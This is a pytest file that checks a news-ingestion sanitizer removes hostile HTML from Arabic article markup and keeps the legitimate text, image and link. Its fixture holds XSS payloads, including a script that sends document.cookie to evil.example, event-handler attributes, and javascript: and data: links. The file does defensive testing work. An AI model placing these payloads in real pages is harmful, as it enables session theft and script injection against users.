"""The nh3 allowlist on hostile markup, and the text Nashra keeps from it."""

from __future__ import annotations

import pytest

from nashra.ingest.html import html_to_text
from nashra.ingest.sanitize import sanitize_html

HOSTILE = """
<p onclick="steal()" style="color:red">بدأت أشغال ترميم القصبة.</p>
<script>document.location='https://evil.example/?c='+document.cookie</script>
<style>body { display: none }</style>
<img src="data:image/png;base64,iVBORw0KGgo=" onerror="alert('img')">
<img src="https://cdn.example/photo.jpg" alt="القصبة" onload="alert(2)">
<svg onload="alert('svg')"><text>نص خبيث</text><script>alert('svg2')</script></svg>
<a href="javascript:alert('link')">رابط خبيث</a>
<a href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;">رابط آخر</a>
<a href="https://news.example/a" target="_blank">رابط سليم</a>
<iframe src="https://evil.example/frame">إطار</iframe>
<form action="https://evil.example"><input name="x"><button>زر</button></form>
<math><mi>x</mi></math><!-- تعليق -->
"""


@pytest.mark.parametrize("payload", [
    "script", "alert", "onerror", "onclick", "onload", "javascript:", "data:", "style", "svg", "iframe",
    "evil.example", "نص خبيث", "إطار", "<form", "<input", "تعليق", "target=",
])
def test_hostile_markup_is_removed(payload):
    assert payload not in sanitize_html(HOSTILE)


def test_the_article_markup_is_kept():
    clean = sanitize_html(HOSTILE)
    assert "<p>بدأت أشغال ترميم القصبة.</p>" in clean
    assert '<img src="https://cdn.example/photo.jpg" alt="القصبة">' in clean
    assert '<a href="https://news.example/a" rel="noopener noreferrer nofollow">رابط سليم</a>' in clean
    assert "رابط خبيث" in clean  # the text of a link is kept, its URL is not


def test_text_of_hostile_markup_has_no_code():
    text = html_to_text(HOSTILE)
    assert "بدأت أشغال ترميم القصبة." in text and "رابط سليم" in text
    for payload in ("alert", "document.cookie", "display: none", "نص خبيث", "إطار"):
        assert payload not in text


def test_markup_only_fragments_give_no_text():
    assert html_to_text("<script>alert(1)</script><style>p{}</style>") == ""
